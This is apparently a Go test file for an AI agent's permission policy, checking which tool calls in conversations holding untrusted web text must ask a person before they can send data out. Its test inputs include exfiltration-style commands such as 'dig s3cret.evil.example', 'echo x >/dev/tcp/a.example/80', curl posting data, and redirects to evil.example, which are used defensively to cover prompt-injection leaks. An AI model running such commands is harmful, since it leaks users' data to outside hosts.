package policy_test

import (
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/zephbot/zephbot/policy"
	"github.com/zephbot/zephbot/policy/netrule"
)

// foreignCall is a call of a conversation with foreign text.
func foreignCall(tool string, to ...policy.Address) policy.Request {
	r := policy.Request{Tool: tool, Foreign: "https://page.example", Session: "s", Caller: "ann", Addresses: to, Inputs: []string{"x"}}
	if len(to) > 0 {
		r.Inputs = []string{to[0].URL}
	}
	return r
}

func built(url string) policy.Address { return policy.Address{URL: url} }

// TestWayOut: what may carry something out of a conversation with foreign text asks, and says where to.
func TestWayOut(t *testing.T) {
	t.Parallel()
	s := newSet(t, policy.Options{
		QuietHosts: []string{"quiet.example", "*.calm.example"}, AllowNetwork: true,
		Permissions: map[string][]policy.Permission{"bash": perms("allow *")["bash"], "srv:*": {{Pattern: "*", Action: policy.Allow}}},
	})
	host := func(input, caller string) []policy.Grant {
		return []policy.Grant{{Tool: "fetch", Kind: policy.GrantHost, Input: input, Session: "s", Caller: caller}}
	}
	command := func(text string, to ...policy.Address) policy.Request {
		r := bash(text)
		r.Foreign, r.Session, r.Caller, r.Addresses = "https://page.example", "s", "ann", to
		return r
	}
	write := foreignCall("srv:write")
	write.Server, write.Definition = "https://srv", "def"
	server := policy.Grant{Tool: "srv:other", Kind: policy.GrantHost, Server: "https://srv", Session: "s", Caller: "ann"}
	good := policy.Address{URL: "https://a.example/", Origin: netrule.Given}
	for _, tt := range []struct {
		name    string
		request policy.Request
		change  func(*policy.Request)
		want    policy.Effect
		whole   string // text of what may be approved; "" = nothing
	}{
		{"built", foreignCall("fetch", built("https://a.example/?q=1")), nil, policy.Ask, "a.example"},
		{"built, nothing foreign", foreignCall("fetch", built("https://a.example/")), func(r *policy.Request) { r.Foreign = "" }, policy.Allow, ""},
		{"built, nobody's conversation", foreignCall("fetch", built("https://a.example/")), func(r *policy.Request) { r.Session = "" }, policy.Ask, ""},
		{"given", foreignCall("fetch", good), nil, policy.Allow, ""},
		{"found", foreignCall("web_scrape", policy.Address{URL: "https://a.example/", Origin: netrule.Found, Room: true}), nil, policy.Allow, ""},
		{"found, too many", foreignCall("fetch", policy.Address{URL: "https://a.b.example/", Origin: netrule.Found}), nil, policy.Ask, "a.b.example"},
		{"quiet", foreignCall("fetch", built("https://quiet.example/x")), nil, policy.Allow, ""},
		{"quiet, with a port", foreignCall("fetch", built("https://quiet.example:8443/x")), nil, policy.Allow, ""},
		{"below quiet", foreignCall("fetch", built("https://x.quiet.example/x")), nil, policy.Ask, "x.quiet.example"},
		{"one label", foreignCall("fetch", built("https://x.calm.example/x")), nil, policy.Allow, ""},
		{"two labels", foreignCall("fetch", built("https://y.x.calm.example/x")), nil, policy.Ask, "y.x.calm.example"},
		{"a host that ends alike", foreignCall("fetch", built("https://evilquiet.example/x")), nil, policy.Ask, "evilquiet.example"},
		{"approved", foreignCall("fetch", built("https://a.example/x")), func(r *policy.Request) { r.Grants = host("a.example", "ann") }, policy.Allow, ""},
		{"approved for fetch, scraped", foreignCall("web_scrape", built("https://a.example/x")), func(r *policy.Request) { r.Grants = host("a.example", "ann") }, policy.Allow, ""},
		{"approved by another", foreignCall("fetch", built("https://a.example/x")), func(r *policy.Request) { r.Grants = host("a.example", "ben") }, policy.Ask, "a.example"},
		{"approved elsewhere", foreignCall("fetch", built("https://a.example/x")), func(r *policy.Request) {
			r.Grants = host("a.example", "ann")
			r.Grants[0].Session = "t"
		}, policy.Ask, "a.example"},
		{"another was approved", foreignCall("fetch", built("https://b.example/x")), func(r *policy.Request) { r.Grants = host("a.example", "ann") }, policy.Ask, "b.example"},
		{"a host without a name is none", foreignCall("fetch", built("https://b.example/x")), func(r *policy.Request) { r.Grants = host("", "ann") }, policy.Ask, "b.example"},
		{"a search", foreignCall("fetch"), nil, policy.Allow, ""},
		{"a server that is written to", write, nil, policy.Ask, "*"},
		{"a server, approved", write, func(r *policy.Request) { r.Grants = []policy.Grant{server} }, policy.Allow, ""},
		{"a server at another address", write, func(r *policy.Request) { r.Grants, r.Server = []policy.Grant{server}, "https://other" }, policy.Ask, "*"},
		{"a server that reads", write, func(r *policy.Request) { r.Reads = true }, policy.Allow, ""},
		{"a server that reads an address", write, func(r *policy.Request) {
			r.Reads, r.Addresses = true, []policy.Address{good, built("https://b.example/")}
		}, policy.Ask, "b.example"},
		{"curl", command("curl https://a.example/?q=1", built("https://a.example/?q=1")), nil, policy.Ask, ""},
		{"curl of what was given", command("curl -sL https://a.example/", good), nil, policy.Allow, ""},
		{"curl that sends", command("curl -d x https://a.example/", good), nil, policy.Ask, ""},
		{"curl that sends, shorter", command("curl -dx https://a.example/", good), nil, policy.Ask, ""},
		{"curl to two places", command("curl https://a.example/ https://b.example/", good, built("https://b.example/")), nil, policy.Ask, ""},
		{"curl with a variable", command("curl https://a.example/$X", good), nil, policy.Ask, ""},
		{"curl behind a wrapper", command("timeout 5 curl https://a.example/x", built("https://a.example/x")), nil, policy.Ask, ""},
		{"curl behind another", command("curl https://a.example/ && ssh b.example id", good), nil, policy.Ask, ""},
		{"dig", command("dig s3cret.evil.example"), nil, policy.Ask, ""},
		{"no network", command("go test ./..."), nil, policy.Allow, ""},
	} {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			if tt.change != nil {
				tt.change(&tt.request)
			}
			d := s.Decide(tt.request)
			whole := ""
			if d.Whole != nil {
				whole = d.Whole.Text()
			}
			if d.Effect != tt.want || whole != tt.whole || d.Effect == policy.Ask && !strings.HasPrefix(d.Rule, policy.WayRule) {
				t.Errorf("%+v, may approve %q; want %s and %q", d, whole, tt.want, tt.whole)
			}
			if d.Whole == nil {
				return
			}
			tt.request.Grants = append(tt.request.Grants, *d.Whole)
			if again := s.Decide(tt.request); again.Effect != policy.Allow {
				t.Errorf("after the approval: %+v", again)
			}
		})
	}
}

// TestWayOutAndFlag: a call that asks for both reasons names the flag, offers no host, and is not one that would run
// without the flag.
func TestWayOutAndFlag(t *testing.T) {
	t.Parallel()
	r := foreignCall("fetch", built("https://a.example/"))
	r.Suspicious = "https://page.example"
	d := newSet(t, policy.Options{}).Decide(r)
	if d.Effect != policy.Ask || strings.HasPrefix(d.Rule, policy.FlaggedRule) || d.Whole != nil || !strings.Contains(d.Reason.String(), "tried to give instructions") {
		t.Errorf("%+v", d)
	}
	if d := newSet(t, policy.Options{Level: policy.Full}).Decide(r); d.Effect != policy.Allow || d.Watched {
		t.Errorf("full: %+v", d)
	}
}

// TestFollows: where a redirect may lead without a person.
func TestFollows(t *testing.T) {
	t.Parallel()
	s := newSet(t, policy.Options{QuietHosts: []string{"quiet.example"}})
	r := foreignCall("fetch")
	given, evil := policy.Address{URL: "https://a.example/", Origin: netrule.Given}, built("https://evil.example/x")
	found := policy.Address{URL: "https://a.example/", Origin: netrule.Found, Room: true}
	room := evil
	room.Room = true
	for name, tt := range map[string]struct {
		asked, before, to policy.Address
		want              bool
	}{
		"given, anywhere":                 {given, given, evil, true},
		"found, another site":             {found, found, room, true},
		"found, a site that is exhausted": {found, found, evil, false},
		"built, another host":             {built("https://quiet.example/?u=evil"), built("https://quiet.example/?u=evil"), evil, false},
		"built, another port":             {built("https://quiet.example/"), built("https://a.example/"), built("https://a.example:81/"), false},
		"built, the same host":            {built("https://b.example/1"), built("https://b.example/1"), built("https://b.example/2"), true},
		"built, to a quiet host":          {built("https://b.example/1"), built("https://b.example/1"), built("https://quiet.example/2"), true},
		"built, to what was given":        {built("https://b.example/1"), built("https://b.example/1"), given, true},
	} {
		if got := s.Follows(r, tt.asked, tt.before, tt.to); got != tt.want {
			t.Errorf("%s: %t", name, got)
		}
	}
	r.Foreign = ""
	if !s.Follows(r, built("https://b.example/"), built("https://b.example/"), evil) {
		t.Error("nothing foreign")
	}
	if d := s.Decide(foreignCall("fetch", given)); !d.Watched {
		t.Error("redirects are not checked")
	}
}

func TestQuietHosts(t *testing.T) {
	t.Parallel()
	newSet(t, policy.Options{QuietHosts: policy.QuietHosts()})
	if _, err := policy.New(policy.Options{QuietHosts: []string{"https://x"}}); err == nil || !strings.Contains(err.Error(), "tools.web.quiet_hosts") {
		t.Errorf("%v", err)
	}
	if diff := cmp.Diff(policy.QuietHosts(), policy.QuietHosts()); diff != "" {
		t.Error(diff)
	}
}

func BenchmarkWayOut(b *testing.B) {
	s := newSet(b, policy.Options{QuietHosts: policy.QuietHosts()})
	r := foreignCall("fetch", built("https://a.example/some/long/path?with=a&query=in&it=1"))
	for range 20 {
		r.Grants = append(r.Grants, policy.Grant{Tool: "fetch", Kind: policy.GrantHost, Input: "b.example", Session: "s", Caller: "ann"})
	}
	for b.Loop() {
		s.Decide(r)
	}
}

// TestOddWaysOut: a network command that cannot be read, one by a redirection alone, and a redirect from what is no
// address.
func TestOddWaysOut(t *testing.T) {
	t.Parallel()
	s := newSet(t, policy.Options{AllowNetwork: true, Permissions: perms("allow *")})
	for _, text := range []string{"curl https://a.example/ '", "cat </dev/tcp/a.example/80", "echo x >/dev/tcp/a.example/80"} {
		r := bash(text)
		r.Foreign, r.Session, r.Caller = "https://page.example", "s", "ann"
		if d := s.Decide(r); d.Effect == policy.Allow {
			t.Errorf("%q: %+v", text, d)
		}
	}
	from := policy.Address{URL: "https://%zz"}
	if s.Follows(foreignCall("fetch", built("https://a.example/")), built("https://a.example/"), from, built("https://b.example/")) {
		t.Error("a redirect from no address was followed")
	}
}
